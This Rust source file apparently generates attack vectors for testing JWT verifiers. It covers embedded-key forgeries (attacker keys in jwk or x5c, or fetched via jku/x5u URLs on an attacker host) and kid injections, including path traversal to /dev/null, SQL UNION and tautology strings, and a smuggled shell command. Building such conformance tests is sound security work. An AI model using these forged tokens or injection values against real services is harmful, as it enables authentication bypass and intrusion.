//! Classes on key selection: `embedded-key` (the attacker's key carried as `jwk`, or named
//! by `jku`, `x5u`, `x5c`) and `kid` (path traversal, SQL, another key's name).

use serde_json::json;

use jwtc_vectors::generate::key_file;
use jwtc_vectors::mint::hmac;
use jwtc_vectors::model::Severity::{Critical, High, Medium};
use jwtc_verifier::b64;

use super::{enc, Ctx};
use crate::attack::Attack;

/// Signed by the attacker's key, which the header carries or points at.
pub fn embedded(c: &Ctx<'_>) -> Vec<Attack> {
    let t = c.token;
    let (_, akey) = c.attacker_key();
    let mut attacker_jwk = c.mint.keys().public_jwk(akey).unwrap_or_default();
    if let Some(o) = attacker_jwk.as_object_mut() {
        o.insert("kid".into(), json!(akey));
    }
    let claims = t.claims_value();
    let rule = if c.frame.profile == "coyo" {
        "coyo.jku-allowlist"
    } else {
        "core.embedded-key"
    };
    let refs = ["CVE-2018-0114", "RFC 8725 §3.10"];
    let jwks = c.attacker_jwks();
    let http = format!("http://{}/jwks.json", c.attacker.http);
    let https = format!("https://{}/jwks.json", c.attacker.https);
    let x5u = format!("https://{}/cert.pem", c.attacker.https);
    let net = |url: &str| json!({ url: {"status": 200, "body": jwks} });
    let mut out = vec![
        Attack::new("embedded-key", "jwk", "core.embedded-key", Critical,
            "signed by the attacker's key, carried in the header as jwk; the token's kid kept",
            c.attacker_sign(t.header_with(json!({"jwk": attacker_jwk})), &claims)).refs(&refs),
        Attack::new("embedded-key", "jwk-own-kid", "core.embedded-key", Critical,
            "signed by the attacker's key carried as jwk, kid naming it",
            c.attacker_sign(t.header_with(json!({"jwk": attacker_jwk, "kid": akey})), &claims)).refs(&refs),
        Attack::new("embedded-key", "jku-http", rule, Critical,
            format!("signed by the attacker's key, jku {http} (the attacker's JWK Set); nothing may be fetched"),
            c.attacker_sign(t.header_with(json!({"jku": http, "kid": akey})), &claims)).refs(&refs[1..]).no_fetch(net(&http)),
        Attack::new("embedded-key", "jku-https", rule, Critical,
            format!("signed by the attacker's key, jku {https}; nothing may be fetched"),
            c.attacker_sign(t.header_with(json!({"jku": https, "kid": akey})), &claims)).refs(&refs[1..]).no_fetch(net(&https)),
        Attack::new("embedded-key", "x5u", "core.embedded-key", Critical,
            format!("signed by the attacker's key, x5u {x5u}; nothing may be fetched"),
            c.attacker_sign(t.header_with(json!({"x5u": x5u, "kid": akey})), &claims)).refs(&refs[1..]).no_fetch(net(&x5u)),
    ];
    if c.frame.network.is_some() {
        // COYO: the header keeps the token's own jku, which may be fetched.
        if let Some(a) = out.iter_mut().find(|a| a.name == "x5u") {
            a.max_fetches = None;
        }
    }
    if akey == "rsa-2048-b" {
        let cert = key_file("rsa-2048-b.cert.pem");
        let der: String = cert.lines().filter(|l| !l.starts_with("-----")).collect();
        out.push(Attack::new("embedded-key", "x5c", "core.embedded-key", Critical,
            "signed by the attacker's key, whose self-signed certificate the header carries as x5c",
            c.attacker_sign(t.header_with(json!({"x5c": [der]})), &claims)).refs(&["RFC 7515 §4.1.6", "RFC 8725 §3.10"]));
    }
    out
}

/// kid injections: a path to an empty file, SQL that selects a known secret, another
/// key's name, kids of the wrong type.
pub fn kid(c: &Ctx<'_>) -> Vec<Attack> {
    let t = c.token;
    let claims = t.claims_value();
    let hs = |kid: &str, secret: &[u8]| {
        let h = enc(&t.header_with(json!({"alg": "HS256", "kid": kid})));
        let mac = hmac("HS256", secret, format!("{h}.{}", t.p64).as_bytes());
        format!("{h}.{}.{}", t.p64, b64::encode(mac))
    };
    let (_, akey) = c.attacker_key();
    let mut out = vec![
        Attack::new("kid", "path-dev-null", "core.keys", Critical,
            "kid ../../../../../../dev/null, HS256 keyed with the empty file's content (no bytes)",
            hs("../../../../../../dev/null", b"")),
        Attack::new("kid", "absolute-dev-null", "core.keys", Critical,
            "kid /dev/null, HS256 keyed with no bytes", hs("/dev/null", b"")),
        Attack::new("kid", "path-proc-version", "core.keys", High,
            "kid ../../../../proc/sys/kernel/randomize_va_space, HS256 keyed with its usual content \"2\\n\"",
            hs("../../../../proc/sys/kernel/randomize_va_space", b"2\n")),
        Attack::new("kid", "sql-union", "core.keys", Critical,
            "kid x' UNION SELECT 'jwtc-attack'-- , HS256 keyed with jwtc-attack (the key a SQL lookup returns)",
            hs("x' UNION SELECT 'jwtc-attack'-- ", b"jwtc-attack")),
        Attack::new("kid", "sql-tautology", "core.keys", High,
            "kid ' OR '1'='1, signed by the attacker's key",
            c.attacker_sign(t.header_with(json!({"kid": "' OR '1'='1"})), &claims)),
        Attack::new("kid", "command-injection", "core.keys", High,
            "kid naming a file then a shell command (|), HS256 keyed with no bytes",
            hs("/dev/null; echo jwtc-attack |", b"")),
        Attack::new("kid", "other-key", "core.keys", Critical,
            format!("kid {akey:?} naming the attacker's key, signed by it"),
            c.attacker_sign(t.header_with(json!({"kid": akey})), &claims)),
    ];
    // Pendo picks the key by signingKeyName, never by kid: these say nothing there.
    let kids = if c.frame.profile == "pendo" {
        Vec::new()
    } else {
        vec![
            ("empty", json!("")),
            ("number", json!(0)),
            ("array", json!(["x"])),
        ]
    };
    for (name, kid) in kids {
        let h = enc(&t.header_with(json!({ "kid": kid })));
        let (tok, resigned) = c.sign_or_keep(&h, &t.p64);
        out.push(Attack::new(
            "kid",
            format!("kid-{name}"),
            "core.keys",
            Medium,
            format!("kid {kid}, {}", super::Ctx::how(resigned)),
            tok,
        ));
    }
    out
}
